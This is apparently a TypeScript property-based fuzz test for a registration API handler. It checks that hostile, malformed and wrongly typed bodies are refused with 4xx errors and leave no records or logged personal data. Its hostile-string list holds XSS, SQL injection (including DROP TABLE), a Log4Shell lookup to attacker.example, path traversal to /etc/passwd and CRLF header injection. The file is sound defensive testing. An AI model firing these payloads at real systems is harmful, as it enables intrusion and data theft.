import { randomUUID } from 'node:crypto';
import type { APIGatewayProxyStructuredResultV2 } from 'aws-lambda';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
import { writeRegions } from '../../shared/regions/dynamodb/region-writer.js';
import { loadScopeRegions } from '../../shared/regions/master-data.js';
import { apiEvent, lambdaContext, postRegistrationEvent } from '../fixtures/api-event.js';
import { type CapturedOutput, captureOutput } from '../fixtures/capture-output.js';
import {
  claimsOf,
  countByType,
  createTestTable,
  localDynamoDbClient,
  scanAll,
} from '../fixtures/dynamodb.js';
import { personalDataOfFixture, registrationBody } from '../fixtures/registration-body.js';

// The real middy-wrapped handler, reading the real DynamoDB Local through its module-scope client.
const endpoint = inject('dynamoEndpoint');
const client = localDynamoDbClient(endpoint);
const tableName = await createTestTable(client, 'kim-fuzz');
await writeRegions(client, tableName, await loadScopeRegions('51.02'));
vi.stubEnv('TABLE_NAME', tableName);
vi.stubEnv('SCOPE_CODE', '51.02');
vi.stubEnv('AWS_ENDPOINT_URL_DYNAMODB', endpoint);
const { handler } = await import('../../functions/registrations/create-registration.js');

type Path = ReadonlyArray<string | number>;

/** JSON text spliced into a body as is: nesting thousands deep, which JSON.stringify cannot write. */
class RawJson {
  constructor(readonly text: string) {}
}

const PLACEHOLDER = `raw-${randomUUID()}`;

const serialize = (body: unknown): string => {
  const raws: string[] = [];
  const text = JSON.stringify(body, (_key, value: unknown) =>
    value instanceof RawJson ? `${PLACEHOLDER}:${raws.push(value.text) - 1}` : value,
  );
  return text.replace(
    new RegExp(`"${PLACEHOLDER}:(\\d+)"`, 'g'),
    (_match, index: string) => raws[Number(index)] ?? '',
  );
};

const nodeAt = (root: unknown, path: Path): unknown =>
  path.reduce<unknown>(
    (node, segment) =>
      node !== null && typeof node === 'object' ? (node as Record<string, unknown>)[segment] : undefined,
    root,
  );

/** Sets `path` as an own property (so "__proto__" is a key, not a prototype); false when the parent is gone. */
const setAt = (root: unknown, path: Path, value: unknown): boolean => {
  const parent = nodeAt(root, path.slice(0, -1));
  const key = path[path.length - 1];
  if (parent === null || typeof parent !== 'object' || key === undefined) return false;
  Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
  return true;
};

/** A change to a body; `apply` says whether it found its place. */
interface Mutation {
  readonly label: string;
  apply(body: Record<string, unknown>): boolean;
}

const set = (label: string, path: Path, value: unknown): Mutation => ({
  label: `${label} at ${path.join('.') || '(root)'}`,
  apply: (body) => setAt(body, path, value),
});

const STRING_PATHS: Path[] = [
  ['name'],
  ['villageCode'],
  ['sk', 'number'],
  ['sk', 'date'],
  ['officers', 0, 'role'],
  ['officers', 0, 'name'],
  ['officers', 0, 'phone'],
  ['officers', 0, 'email'],
  ['officers', 1, 'name'],
  ['officers', 2, 'phone'],
  ['focusAreas', 0],
  ['media', 0, 'type'],
  ['media', 0, 'url'],
  ['contact', 'email'],
  ['contact', 'phone'],
];
const OBJECT_PATHS: Path[] = [['sk'], ['officers', 0], ['officers', 2], ['media', 0], ['contact']];
const ARRAY_PATHS: Path[] = [['officers'], ['focusAreas'], ['media']];
const FREE_TEXT_PATHS: Path[] = [['name'], ['sk', 'number'], ['officers', 1, 'name']];
/** Strings with a format or an enum: nothing below (markup, SQL, control characters) fits them. */
const FORMATTED_PATHS: Path[] = [
  ['villageCode'],
  ['sk', 'date'],
  ['officers', 0, 'role'],
  ['officers', 0, 'phone'],
  ['officers', 0, 'email'],
  ['focusAreas', 1],
  ['media', 0, 'type'],
  ['media', 0, 'url'],
  ['contact', 'email'],
  ['contact', 'phone'],
];
const MAX_LENGTHS: ReadonlyArray<readonly [Path, number]> = [
  [['name'], 120],
  [['sk', 'number'], 100],
  [['officers', 1, 'name'], 100],
  [['officers', 0, 'email'], 254],
  [['contact', 'email'], 254],
  [['contact', 'phone'], 32],
  [['media', 0, 'url'], 2048],
];

const HOSTILE_STRINGS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  "' OR '1'='1' --",
  "'; DROP TABLE registrations; --",
  '1 UNION SELECT password FROM users',
  '{"$ne": null}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'NaN',
  'undefined',
  'null',
  '%00',
  '\\u0000',
  'SK 1\r\nSet-Cookie: session=stolen',
] as const;

const jsonLeaf = fc.oneof(fc.string(), fc.integer(), fc.boolean(), fc.constant(null));
const notString = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(jsonLeaf, { maxLength: 3 }),
  fc.dictionary(fc.string(), jsonLeaf, { maxKeys: 3 }),
);
const numberLikeStrings = fc.constantFrom(
  '12',
  ' 12 ',
  '12.0',
  '1e1',
  '0x0C',
  'NaN',
  'Infinity',
  '-Infinity',
  '',
  '١٢',
);
const notNumber = fc.oneof(
  numberLikeStrings,
  fc.string(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.integer(), { maxKeys: 2 }),
);
const notObject = fc.oneof(
  fc.string(),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
);
const notArray = fc.oneof(
  fc.string(),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
);

const wrongType: fc.Arbitrary<Mutation> = fc.oneof(
  fc
    .tuple(fc.constantFrom(...STRING_PATHS), notString)
    .map(([path, value]) => set('wrong type', path, value)),
  notNumber.map((value) => set('wrong type', ['memberCount'], value)),
  fc
    .tuple(fc.constantFrom(...OBJECT_PATHS), notObject)
    .map(([path, value]) => set('not an object', path, value)),
  fc
    .tuple(fc.constantFrom(...ARRAY_PATHS), notArray)
    .map(([path, value]) => set('not an array', path, value)),
);

const tooLong: fc.Arbitrary<Mutation> = fc
  .tuple(
    fc.constantFrom(...MAX_LENGTHS),
    fc.oneof(fc.integer({ min: 1, max: 3000 }), fc.constant(70_000)),
    fc.constantFrom('a', '9', 'é', '一', '😀', '<', "'"),
  )
  .map(([[path, max], extra, char]) => set(`string of ${max + extra}`, path, char.repeat(max + extra)));

const deepNesting: fc.Arbitrary<Mutation> = fc
  .tuple(
    fc.constantFrom(...STRING_PATHS, ...OBJECT_PATHS, ...ARRAY_PATHS, ['memberCount']),
    fc.integer({ min: 2, max: 6000 }),
    fc.boolean(),
  )
  .map(([path, depth, arrays]) =>
    set(
      `nesting ${depth} deep`,
      path,
      new RawJson(
        arrays ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
      ),
    ),
  );

const SCHEMA_KEYS = new Set([
  'name',
  'villageCode',
  'sk',
  'officers',
  'memberCount',
  'focusAreas',
  'media',
  'contact',
  'number',
  'date',
  'role',
  'phone',
  'email',
  'type',
  'url',
]);

const unknownKey: fc.Arbitrary<Mutation> = fc
  .tuple(
    fc.constantFrom<Path>([], ...OBJECT_PATHS),
    fc.oneof(
      fc.constantFrom(
        '__proto__',
        'constructor',
        'prototype',
        'toString',
        'hasOwnProperty',
        '__defineGetter__',
        'status',
        'id',
        'isAdmin',
        'PK',
      ),
      fc.string({ minLength: 1 }),
    ),
    fc.jsonValue({ maxDepth: 2 }),
  )
  // Known anywhere in the schema, so that no key lands where it would be accepted (email on an officer).
  .filter(([, key]) => !SCHEMA_KEYS.has(key))
  .map(([path, key, value]) => set(`unknown key ${JSON.stringify(key)}`, [...path, key], value));

/** Inserts `char` strictly inside a string, where trimming cannot remove it. */
const insertInside = (path: Path, char: string, at: number): Mutation => ({
  label: `${JSON.stringify(char)} inside ${path.join('.')}`,
  apply: (body) => {
    const current = nodeAt(body, path);
    if (typeof current !== 'string' || current.length < 2) return false;
    const index = 1 + (at % (current.length - 1));
    return setAt(body, path, `${current.slice(0, index)}${char}${current.slice(index)}`);
  },
});

const controlCharacter = fc
  .oneof(fc.integer({ min: 0x00, max: 0x1f }), fc.integer({ min: 0x7f, max: 0x9f }))
  .map((code) => String.fromCharCode(code));
// Phones drop whitespace (/\s/: \t \n \v \f \r, U+FEFF, …) while normalising; other characters are refused.
const controlCharacterNotSpace = controlCharacter.filter((char) => !/\s/.test(char));

const controlCharacters: fc.Arbitrary<Mutation> = fc.oneof(
  fc
    .tuple(
      fc.constantFrom<Path>(['villageCode'], ['sk', 'date'], ['contact', 'email']),
      controlCharacter,
      fc.nat(),
    )
    .map(([path, char, at]) => insertInside(path, char, at)),
  // Free text is trimmed: whitespace controls next to spaces there could vanish, the others cannot.
  fc
    .tuple(fc.constantFrom(...FREE_TEXT_PATHS), controlCharacterNotSpace, fc.nat())
    .map(([path, char, at]) => insertInside(path, char, at)),
  fc
    .tuple(
      fc.constantFrom<Path>(['contact', 'phone'], ['officers', 1, 'phone']),
      controlCharacterNotSpace,
      fc.nat(),
    )
    .map(([path, char, at]) => insertInside(path, char, at)),
  // Not phones: they drop invisible characters, as copied numbers carry them (see unicode-text.fuzz).
  fc
    .tuple(
      fc.constantFrom<Path>(['villageCode'], ['contact', 'email'], ['sk', 'date']),
      fc.constantFrom('\u200b', '\u202e', '\u2060', '😀', '٣', '５'),
      fc.nat(),
    )
    .map(([path, char, at]) => insertInside(path, char, at)),
);

const memberCounts: fc.Arbitrary<Mutation> = fc
  .oneof(
    numberLikeStrings,
    fc.integer({ min: -1_000_000, max: 2 }),
    fc.integer({ min: 101, max: 1_000_000_000 }),
    fc.constantFrom(3.5, 99.99, -0.5, 1e308, Number.MAX_SAFE_INTEGER + 2),
  )
  .map((value) => set(`memberCount ${JSON.stringify(value)}`, ['memberCount'], value));

const pad = (value: number, width: number) => String(value).padStart(width, '0');
const villageCodes: fc.Arbitrary<Mutation> = fc
  .oneof(
    fc
      .tuple(
        fc.integer({ min: 11, max: 99 }),
        fc.integer({ min: 1, max: 99 }),
        fc.integer({ min: 1, max: 99 }),
        fc.integer({ min: 1001, max: 2999 }),
      )
      .map(([p, r, d, v]) => `${p}.${pad(r, 2)}.${pad(d, 2)}.${v}`)
      .filter((code) => !code.startsWith('51.02.')),
    fc
      .tuple(fc.integer({ min: 1, max: 10 }), fc.integer({ min: 5000, max: 9999 }))
      .map(([d, v]) => `51.02.${pad(d, 2)}.${v}`),
    fc.constantFrom(
      '51.02.05',
      '51.02',
      'ID',
      '51.02.05.2006.1',
      '51.02.5.2006',
      '51-02-05-2006',
      ' 51.02.05.2006',
      '51.02.05.2006\n',
      '５１.02.05.2006',
      "51.02.05.2006' OR '1'='1",
      '',
    ),
    fc.string().map((text) => `<${text}>`),
  )
  .map((code) => set(`village ${JSON.stringify(code)}`, ['villageCode'], code));

const DAY_MS = 24 * 60 * 60 * 1000;
const isoDay = (date: Date) => date.toISOString().slice(0, 10);
const skDates: fc.Arbitrary<Mutation> = fc
  .oneof(
    // Two days ahead clears every time zone of Indonesia.
    fc
      .date({ min: new Date(Date.now() + 2 * DAY_MS), max: new Date('9999-12-31'), noInvalidDate: true })
      .map(isoDay),
    fc.date({ min: new Date('1000-01-01'), max: new Date('1999-12-31'), noInvalidDate: true }).map(isoDay),
    fc.constantFrom(
      '2025-02-29',
      '2025-02-30',
      '2025-13-01',
      '02-06-2025',
      '2025/06/02',
      '2025-06-02T00:00:00Z',
      '20250602',
      'kemarin',
    ),
  )
  .map((date) => set(`SK date ${date}`, ['sk', 'date'], date));

const REQUIRED_ROLES = ['KETUA', 'SEKRETARIS', 'BENDAHARA'] as const;
/** Leaves no officer, or at least two, with the role: never exactly one, whatever came before. */
const officerRoles: fc.Arbitrary<Mutation> = fc
  .tuple(fc.constantFrom(...REQUIRED_ROLES), fc.constantFrom('remove', 'duplicate', 'rename', 'lower-case'))
  .map(([role, change]) => ({
    label: `${change} ${role}`,
    apply: (body) => {
      const officers = body.officers;
      if (!Array.isArray(officers)) return false;
      const holders = officers.filter(
        (officer): officer is Record<string, unknown> =>
          (officer as { role?: unknown } | null)?.role === role,
      );
      const first = holders[0];
      if (!first) return false;
      if (change === 'remove') body.officers = officers.filter((officer) => !holders.includes(officer));
      if (change === 'duplicate') officers.push({ ...first, name: 'Kadek Duplikat', phone: '081399998888' });
      for (const holder of holders) {
        if (change === 'rename') holder.role = 'WAKIL_KETUA';
        if (change === 'lower-case') holder.role = role.toLowerCase();
      }
      return true;
    },
  }));

const hostileFormatted: fc.Arbitrary<Mutation> = fc
  .tuple(
    fc.constantFrom(...FORMATTED_PATHS),
    fc.oneof(
      fc.constantFrom(...HOSTILE_STRINGS),
      fc.string().map((text) => `<${text}>`),
    ),
  )
  .map(([path, value]) => set('hostile string', path, value));

const focusAreas: fc.Arbitrary<Mutation> = fc
  .oneof(
    fc.constant<unknown[]>([]),
    fc.constant(['PERTANIAN', 'PERTANIAN']),
    fc
      .array(fc.string(), { minLength: 1, maxLength: 3 })
      .map((areas) => [...areas.map((area) => `x${area}`)]),
    fc.constant(Array.from({ length: 14 }, () => 'UMKM')),
  )
  .map((areas) => set('focus areas', ['focusAreas'], areas));

/** Each of these makes any body invalid, whatever was done to it before. */
const invalidating: fc.Arbitrary<Mutation> = fc.oneof(
  wrongType,
  tooLong,
  deepNesting,
  unknownKey,
  controlCharacters,
  memberCounts,
  villageCodes,
  skDates,
  officerRoles,
  hostileFormatted,
  focusAreas,
);

/** Hostile but possibly valid on their own: markup, SQL and odd Unicode in free text. */
const hostileFreeText: fc.Arbitrary<Mutation> = fc
  .tuple(
    fc.constantFrom(...FREE_TEXT_PATHS),
    fc.oneof(
      fc.constantFrom(...HOSTILE_STRINGS),
      fc.string({ unit: 'grapheme', minLength: 3, maxLength: 40 }),
      fc.string({ unit: 'binary', minLength: 3, maxLength: 40 }),
      fc.constantFrom('KIM \u202eevil', 'KIM\u200b\u200b', 'ﷺ'.repeat(20), 'Z̶̡̛a̷l̸g̵o̴', '\ud800KIM'),
    ),
  )
  .map(([path, value]) => set('hostile free text', path, value));

const idempotencyKey = fc.option(
  fc.constantFrom('fuzz-key-1', 'fuzz-key-2', '', 'two words', 'kunci-ñ', 'k'.repeat(256), 'k\u0000'),
  { nil: undefined },
);

/** The valid fixture, changed a few times, then once more so that it is certainly invalid. */
const hostileRequest = fc
  .record({
    before: fc.array(fc.oneof(hostileFreeText, invalidating), { maxLength: 3 }),
    last: invalidating,
    idempotencyKey,
  })
  .map(({ before, last, idempotencyKey: key }) => {
    const body: Record<string, unknown> = registrationBody();
    for (const mutation of before) mutation.apply(body);
    // If an earlier change removed its place, that earlier change already made the body invalid.
    const applied = last.apply(body);
    return {
      labels: [...before.map((mutation) => mutation.label), `${last.label}${applied ? '' : ' (no place)'}`],
      text: serialize(body),
      headers: (key === undefined ? {} : { 'idempotency-key': key }) as Record<string, string>,
    };
  });

const fixtureText = JSON.stringify(registrationBody());
const isJson = (text: string) => {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
};

/** Bodies that are not JSON at all, or JSON of the wrong shape, declared as JSON. */
const malformedRequest = fc.oneof(
  fc
    .string()
    .filter((text) => !isJson(text))
    .map((text) => ({ body: text, base64: false })),
  fc
    .string({ unit: 'binary' })
    .filter((text) => !isJson(text))
    .map((text) => ({ body: text, base64: false })),
  fc
    .integer({ min: 0, max: fixtureText.length - 1 })
    .map((length) => ({ body: fixtureText.slice(0, length), base64: false })),
  fc.string({ minLength: 1 }).map((garbage) => ({ body: `${fixtureText}x${garbage}`, base64: false })),
  fc
    .constantFrom(
      fixtureText.replaceAll('"', "'"),
      fixtureText.replace('"memberCount":12', '"memberCount":NaN'),
      fixtureText.replace('"memberCount":12', '"memberCount":012'),
      fixtureText.replace('"memberCount":12', '"memberCount":+12'),
      fixtureText.replace('"memberCount":12', '"memberCount":0x0C'),
      fixtureText.replace('}', ',}'),
      `${fixtureText.slice(0, -1)} /* ok */}`,
      `${fixtureText}${fixtureText}`,
      `[${fixtureText}]`,
      JSON.stringify(fixtureText),
      'null',
      'true',
      '42',
      '""',
      '[]',
      '{}',
    )
    .map((text) => ({ body: text, base64: false })),
  fc.jsonValue().map((value) => ({ body: JSON.stringify(value), base64: false })),
  fc
    .uint8Array({ maxLength: 200 })
    .map((bytes) => ({ body: Buffer.from(bytes).toString('base64'), base64: true })),
  // Valid JSON text, then bytes that are not UTF-8.
  fc.constant({
    body: Buffer.concat([
      Buffer.from(fixtureText.slice(0, -2)),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('"}'),
    ]).toString('base64'),
    base64: true,
  }),
);

const wrongContentType = fc.oneof(
  fc.constantFrom(
    'text/plain',
    'text/html',
    'text/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=----x',
    'application/xml',
    'application/jsonp',
    'application/json-seq',
    'application/x-json',
    'application/octet-stream',
    '*/*',
    'application/*',
    'json',
    '',
  ),
  fc.string().filter((type) => !/json/i.test(type)),
  fc.constant(undefined),
);

const output: { captured?: CapturedOutput } = {};
beforeAll(() => {
  output.captured = captureOutput();
});
afterAll(() => {
  output.captured?.restore();
});

/** Every refusal: a 4xx with Indonesian and English messages; a 400 says which fields. */
const expectRefusal = (result: APIGatewayProxyStructuredResultV2, context: string) => {
  const detail = `${context}\n→ ${result.statusCode} ${result.body?.slice(0, 500)}`;
  expect(result.statusCode, detail).toBeGreaterThanOrEqual(400);
  expect(result.statusCode, detail).toBeLessThan(500);
  const body = JSON.parse(result.body ?? 'null') as Record<string, unknown>;
  expect(typeof body.message === 'string' && body.message.length > 0, detail).toBe(true);
  expect(typeof body.messageEn === 'string' && body.messageEn.length > 0, detail).toBe(true);
  if (result.statusCode === 400) {
    const errors = body.errors as Array<Record<string, unknown>> | undefined;
    expect(Array.isArray(errors) && errors.length > 0, detail).toBe(true);
    for (const error of errors ?? []) {
      // A field may be named "" when the body has a key "" (the unknown key is the empty string).
      expect(typeof error.field, detail).toBe('string');
      for (const key of ['message', 'messageEn']) {
        expect(typeof error[key] === 'string' && (error[key] as string).length > 0, detail).toBe(true);
      }
    }
  }
};

describe('POST /registrations under generated hostile input (DynamoDB Local)', () => {
  it('refuses 1,000 mutated bodies, each with a 4xx that names what is wrong', async () => {
    await fc.assert(
      fc.asyncProperty(hostileRequest, async (request) => {
        const result = await handler(
          postRegistrationEvent(request.text, request.headers),
          lambdaContext('create-registration'),
        );

        expectRefusal(result, request.labels.join(' + '));
      }),
      { numRuns: 1000 },
    );
  });

  it('refuses 300 bodies that are not JSON, or JSON of the wrong shape, with a 400', async () => {
    await fc.assert(
      fc.asyncProperty(malformedRequest, async ({ body, base64 }) => {
        const event = apiEvent({
          method: 'POST',
          path: '/registrations',
          body,
          isBase64Encoded: base64,
          headers: { 'content-type': 'application/json' },
        });

        const result = await handler(event, lambdaContext('create-registration'));

        expectRefusal(result, JSON.stringify(body).slice(0, 300));
        expect(result.statusCode).toBe(400);
      }),
      { numRuns: 300 },
    );
  });

  it('refuses the valid body under 150 content types that are not JSON with a 415', async () => {
    await fc.assert(
      fc.asyncProperty(wrongContentType, async (contentType) => {
        const event = apiEvent({
          method: 'POST',
          path: '/registrations',
          body: fixtureText,
          headers: contentType === undefined ? {} : { 'content-type': contentType },
        });

        const result = await handler(event, lambdaContext('create-registration'));

        expectRefusal(result, `content-type ${JSON.stringify(contentType)}`);
        expect(result.statusCode).toBe(415);
      }),
      { numRuns: 150 },
    );
  });

  it('wrote nothing: the table holds only the seeded regions', async () => {
    const items = await scanAll(client, tableName);

    expect(countByType(items)).toEqual({ REGION: 144 });
  });

  it('logged no personal data of the fixture while refusing', () => {
    const lines = output.captured?.lines() ?? [];

    expect(lines.length).toBeGreaterThan(1000);
    expect(lines.filter((line) => personalDataOfFixture.some((personal) => line.includes(personal)))).toEqual(
      [],
    );
  });

  it('accepts the unchanged fixture through the same handler and table (control)', async () => {
    const result = await handler(postRegistrationEvent(fixtureText), lambdaContext('create-registration'));

    expect(result.statusCode).toBe(201);
    const items = await scanAll(client, tableName);
    // The registration is its own claim and its own SUBMIT entry.
    expect(countByType(items)).toEqual({ REGION: 144, REGISTRATION: 1 });
    expect(claimsOf(items)).toEqual({ '51.02.05.2006#141/12/dp/2025': [JSON.parse(result.body ?? '{}').id] });
  });
});
